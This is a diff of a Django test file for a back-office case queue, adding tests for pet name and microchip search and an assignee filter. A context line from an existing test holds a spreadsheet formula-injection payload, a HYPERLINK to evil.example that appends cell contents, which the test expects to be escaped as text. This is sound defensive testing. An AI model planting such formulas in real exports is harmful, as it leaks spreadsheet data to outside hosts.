@@ -164,3 +164,29 @@ def test_queue_export_writes_a_formula_typed_as_a_name_as_text(case_manager, cli
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
     names = [row[-1] for row in rows[1:]]
     assert names == ['\'=HYPERLINK("https://evil.example/?"&A1,"Click")']
+
+
+def test_the_search_finds_a_pets_name_and_a_microchip_however_it_was_typed(case_manager, client):
+    from backoffice.models import CasePet, Pet
+
+    case = CaseFactory(person=PersonFactory(name="Rosa Delgado"))
+    other = CaseFactory(person=PersonFactory(name="Tom Wilder"))
+    pet = Pet.objects.create(
+        owner=case.person, species="dog", name="Biscuit", microchip="985 112-003 456 789"
+    )
+    CasePet.objects.create(case=case, pet=pet)
+    # A pet of the same person that this case is not about does not make it match.
+    Pet.objects.create(owner=other.person, species="cat", name="Pepper")
+    client.force_login(case_manager)
+    url = reverse("backoffice:queue") + "?status=all&q="
+    assert _refs(client.get(url + "biscuit")) == [case.reference]
+    assert _refs(client.get(url + "985112003456789")) == [case.reference]
+    assert _refs(client.get(url + "٩٨٥ ١١٢ ٠٠٣ ٤٥٦ ٧٨٩")) == [case.reference]
+    assert _refs(client.get(url + "pepper")) == []
+
+
+def test_the_case_manager_filter_offers_anyone_once(case_manager, client):
+    client.force_login(case_manager)
+    body = client.get(reverse("backoffice:queue")).content.decode()
+    assignee = body.split('name="assignee"')[1].split("</select>")[0]
+    assert assignee.count(">Anyone<") == 1
